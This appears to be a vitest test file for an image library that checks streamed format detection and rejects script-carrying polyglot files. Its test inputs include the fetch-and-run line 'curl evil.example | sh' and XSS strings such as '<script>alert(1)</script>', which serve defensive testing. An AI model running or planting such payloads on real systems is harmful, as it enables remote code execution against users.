import { mkdtemp, readdir, rm } from 'node:fs/promises';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, onTestFinished, test } from 'vitest';
import { fetchTransport } from '../../src/host/fetch-transport.ts';
import { type DeliveredType, sniffDelivered } from '../../src/image/media-type.ts';
import { createImage } from '../../src/image/picture.ts';
import { followPicture } from '../../src/image/walk.ts';
import { saveImage } from '../../src/node/save-image.ts';
import { toBmp, toJpeg, toPng, toTiff } from '../pictures.ts';

type Format = 'png' | 'jpeg' | 'webp' | 'gif' | 'avif' | 'tiff';
type Pipeline = Record<Format, (options?: object) => { toBuffer(): Promise<Buffer> }>;
type Sharp = (input: object, options?: object) => Pipeline & { withMetadata(options: object): Pipeline };
const sharp: Sharp = createRequire(new URL('../../../emulator/package.json', import.meta.url))('sharp');

const noise = { type: 'gaussian', mean: 128, sigma: 60 };
const canvas = (width = 96, height = 64) =>
  sharp({ create: { width, height, channels: 3, background: '#369', noise } });

const files: [string, () => Promise<Buffer>][] = [
  ['a PNG', () => canvas().png().toBuffer()],
  ['a PNG with a palette', () => canvas().png({ palette: true }).toBuffer()],
  ['a JPEG', () => canvas().jpeg().toBuffer()],
  ['a progressive JPEG', () => canvas().jpeg({ progressive: true, quality: 95 }).toBuffer()],
  [
    'a JPEG with EXIF',
    () =>
      canvas()
        .withMetadata({ exif: { IFD0: { Copyright: 'x' } } })
        .jpeg()
        .toBuffer(),
  ],
  ['a WebP', () => canvas().webp({ quality: 40 }).toBuffer()],
  ['a WebP without losses', () => canvas(31, 7).webp({ lossless: true }).toBuffer()],
  [
    'a WebP with metadata',
    () =>
      canvas()
        .withMetadata({ exif: { IFD0: { Copyright: 'x' } } })
        .webp()
        .toBuffer(),
  ],
  ['a GIF', () => canvas().gif().toBuffer()],
  ['an AVIF', () => canvas().avif().toBuffer()],
  ['a TIFF', () => canvas().tiff().toBuffer()],
  ['a TIFF of many strips', () => canvas().tiff({ compression: 'lzw' }).toBuffer()],
  [
    'a TIFF of tiles',
    () => canvas().tiff({ compression: 'deflate', tile: true, tileWidth: 16, tileHeight: 16 }).toBuffer(),
  ],
  ['a TIFF whose directory comes first', async () => toTiff({ little: true })],
  ['a TIFF of the other byte order', async () => toTiff({ little: false })],
  ['a BMP', async () => toBmp()],
];

const typeOf = (file: Uint8Array): DeliveredType => sniffDelivered(file) ?? expect.fail('no picture at all');

/** Whether a file passes for a picture, given in pieces of this length. */
function isPicture(file: Uint8Array, length = file.length): boolean {
  return endOf(file, length) === 'whole';
}

function endOf(file: Uint8Array, length = file.length): 'whole' | 'cut' | undefined {
  const follower = followPicture(typeOf(file));
  for (let start = 0; start < file.length; start += length) {
    if (!follower.take(file.subarray(start, start + length))) return undefined;
  }
  return follower.end();
}

describe.each(files)('%s', (_, make) => {
  test('is followed to its end, in whatever pieces it comes', async () => {
    const file = await make();
    for (const length of [file.length, 1, 2, 3, 7, 64, 1000])
      expect([length, isPicture(file, length)]).toEqual([length, true]);
  });

  test('is not one when it is cut', async () => {
    const file = await make();
    // The last byte of a WebP may be missing where it only makes the length even.
    const wholes = Array.from({ length: file.length - 32 }, (__, cut) => cut + 31).filter((cut) =>
      isPicture(file.subarray(0, cut)),
    );
    expect(wholes.filter((cut) => cut < file.length - 1)).toEqual([]);
  });

  test('may have something behind it', async () => {
    const file = await make();
    expect(isPicture(Buffer.concat([file, Buffer.from('\n--\nsigned by its camera')]), 11)).toBe(true);
  });

  test('has no more work with what is behind it', async () => {
    const file = await make();
    const follower = followPicture(typeOf(file));
    expect(follower.take(Buffer.concat([file, Buffer.alloc(2)]))).toBe(true);
    const unread = new Proxy(new Uint8Array(9), {
      get() {
        throw new Error('it was looked at');
      },
    });
    expect([follower.take(unread), follower.end()]).toEqual([true, 'whole']);
  });

  test.each([
    '\n#!/bin/sh\ncurl evil.example | sh\n',
    '=1;\nalert(1)//',
    '\0\0\0\0'.repeat(9),
    '<script>alert(1)</script>',
  ])('is not one when its first bytes stand before %j', async (script) => {
    const file = await make();
    for (const length of [12, 16]) {
      for (const times of [1, 200]) {
        const fake = Buffer.concat([file.subarray(0, length), Buffer.from(script.repeat(times))]);
        expect([length, times, isPicture(fake)]).toEqual([length, times, false]);
      }
    }
  });
});

describe.each(files.filter(([name]) => name.includes('JPEG')))('%s that is cut', (_, make) => {
  test('is shown as far as it goes from its coded data on, and is none before', async () => {
    const file = await make();
    const scan = file.indexOf(Buffer.from([0xff, 0xda]));
    const coded = scan + 2 + file.readUInt16BE(scan + 2);
    const ends = Array.from({ length: file.length - 32 }, (__, cut) => [cut + 31, endOf(file.subarray(0, cut + 31))]);
    expect(ends.filter(([cut = 0, end]) => end !== (Number(cut) > coded ? 'cut' : undefined))).toEqual([]);
    for (const length of [1, 7, 1000]) expect(endOf(file.subarray(0, -2), length)).toBe('cut');
  });

  test('is none where no frame says what its data are, or where they go on as something else', async () => {
    const file = await make();
    const frame = file.findIndex((byte, at) => byte === 0xff && [0xc0, 0xc2].includes(file[at + 1] ?? 0));
    const unframed = Buffer.concat([file.subarray(0, frame), file.subarray(frame + 2 + file.readUInt16BE(frame + 2))]);
    expect(endOf(unframed.subarray(0, -2))).toBeUndefined();
    expect(endOf(Buffer.concat([file.subarray(0, -2), Buffer.from([0xff, 0xe0, 0, 1])]))).toBeUndefined();
  });
});

describe('a file that is long', () => {
  const head = {
    png: Buffer.from('89504e470d0a1a0a', 'hex'),
    jpeg: Buffer.from(toJpeg(0, false)),
    gif: Buffer.from('GIF89a\x01\0\x01\0\0\0\0', 'latin1'),
    avif: Buffer.from('\0\0\0\x14ftypavif\0\0\0\0avif', 'latin1'),
  };
  const many = (...bytes: readonly number[]): Buffer => Buffer.alloc(12_000_000, Buffer.from(bytes));

  test.each([
    ['PNG', head.png, many(0, 0, 0, 0, 65, 65, 65, 65, 0, 0, 0, 0)],
    ['JPEG', head.jpeg.subarray(0, 2), many(0xff, 0xe0, 0, 2)],
    ['GIF', head.gif, many(0x21, 0xfe, 0)],
    ['AVIF', head.avif, many(0, 0, 0, 8, 65, 65, 65, 65)],
  ])('and of nothing but the smallest parts is no %s, and not followed to its end', (_, first, rest) => {
    const file = Buffer.concat([first, rest]);
    expect(followPicture(typeOf(file)).take(file)).toBe(false);
  });

  test('is one where only its picture is long', () => {
    const escaped = Buffer.concat([head.jpeg, many(0xff, 0), Buffer.from([0xff, 0xd9])]);
    const frame = Buffer.from([0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2]);
    const animated = Buffer.concat([head.gif, frame, many(1, 65), Buffer.from([0, 0x3b])]);
    expect([isPicture(escaped, 16_384), isPicture(animated, 16_384)]).toEqual([true, true]);
  });
});

test('no other picture is shown without its end', async () => {
  for (const [name, make] of files.filter(([name]) => !name.includes('JPEG'))) {
    const file = await make();
    expect([name, endOf(file.subarray(0, -9))]).toEqual([name, undefined]);
  }
});

test('bytes of any kind behind the beginning of a picture are followed without throwing, and to an end', async () => {
  const heads = await Promise.all(files.map(async ([, make]) => [...(await make()).subarray(0, 40)]));
  fc.assert(
    fc.property(
      fc.constantFrom(...heads),
      fc.uint8Array({ maxLength: 300 }),
      fc.integer({ min: 1, max: 50 }),
      (head, tail, length) => {
        const file = Uint8Array.from([...head, ...tail]);
        expect(isPicture(file, length)).toBe(isPicture(file));
      },
    ),
    { numRuns: 1000 },
  );
});

describe('a script that begins like a picture', () => {
  const job = { provider: 'fake', modelId: 'x/y', id: 'j1' };
  const script = Buffer.from('GIF89a=1;\n#!/bin/sh\ncurl evil.example | sh\n');
  const imageOf = (bytes: Uint8Array) =>
    createImage({
      ...{ output: { url: 'https://93.184.216.34/a.png' }, job, seed: undefined, local: false },
      transport: fetchTransport(async () => new Response(new Uint8Array(bytes))),
      refresh: async () => undefined,
    });
  const invalid = { code: 'invalid_response', reason: 'output_invalid', billed: 'yes', stage: 'download', job };

  async function folder(): Promise<string> {
    const path = await mkdtemp(join(tmpdir(), 'imageport-walk-'));
    onTestFinished(() => rm(path, { recursive: true }));
    return path;
  }

  test.each([
    ['small', script],
    ['large', Buffer.concat([script, Buffer.alloc(100_000, '# nothing\n')])],
    ['a picture that breaks off', toPng(50_000).subarray(0, 40_000)],
    [
      'a picture that goes on as something else',
      Buffer.concat([toPng(40_000).subarray(0, -12), Buffer.alloc(40_000, 'sh\n')]),
    ],
  ])('is not saved: %s', async (_, bytes) => {
    const path = await folder();
    await expect(saveImage(imageOf(bytes), join(path, 'a.png'))).rejects.toMatchObject(invalid);
    expect(await readdir(path)).toEqual([]);
  });

  test('is not handed over as bytes either, and the picture has no type', async () => {
    const image = imageOf(script);
    await expect(image.bytes()).rejects.toMatchObject(invalid);
    expect(image.mediaType).toBeUndefined();
  });
});
